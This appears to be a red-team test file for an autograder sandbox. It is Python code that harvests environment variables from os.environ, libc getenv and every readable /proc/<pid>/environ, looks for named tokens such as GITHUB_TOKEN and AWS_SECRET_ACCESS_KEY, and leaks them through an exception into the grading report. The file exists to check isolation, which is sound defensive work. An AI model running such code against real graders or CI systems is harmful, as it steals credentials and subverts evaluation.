"""Attack: steal the grader's secrets from its environment (CI tokens, cloud keys): os.environ,
libc's getenv, and /proc/<pid>/environ of every process it can see (itself, its parent, the
grader), then raise an exception carrying them, so they land in the report.

Expected as root: nothing is found (the child's environment holds only PATH, locale, HOME and
TMPDIR, and its /proc shows only its own PID namespace, with Landlock only its own entries); the
report carries no secret; the honest score is kept. As an ordinary user the grader's own /proc/<pid>/environ is readable (README).
"""
import ctypes
import sys

_os = sys.modules["os"]
_found = [f"{k}={v}" for k, v in _os.environ.items() if k not in ("PATH", "LANG", "LC_ALL", "LC_CTYPE", "TZ", "HOME", "TMPDIR")]
try:
    _pids = [pid for pid in _os.listdir("/proc") if pid.isdigit()]
except OSError:  # Landlock: only the child's own /proc entries
    _pids = []
for _path in [f"/proc/{pid}/environ" for pid in _pids] + ["/proc/self/environ"]:
    try:
        with open(_path, "rb") as _file:
            _found += [v.decode(errors="replace") for v in _file.read().split(b"\0") if v and b"=" in v
                       and not v.startswith((b"PATH=", b"LANG=", b"LC_", b"TZ=", b"HOME=", b"TMPDIR="))]
    except OSError:
        pass
_libc = ctypes.CDLL(None)
_libc.getenv.restype = ctypes.c_char_p
for _name in (b"AUTOGRADER_REDTEAM_SECRET", b"GITHUB_TOKEN", b"AWS_SECRET_ACCESS_KEY"):
    if _libc.getenv(_name):
        _found.append(_libc.getenv(_name).decode())
if _found:
    raise RuntimeError("stolen: " + " ".join(_found))
print("no secrets in this environment")
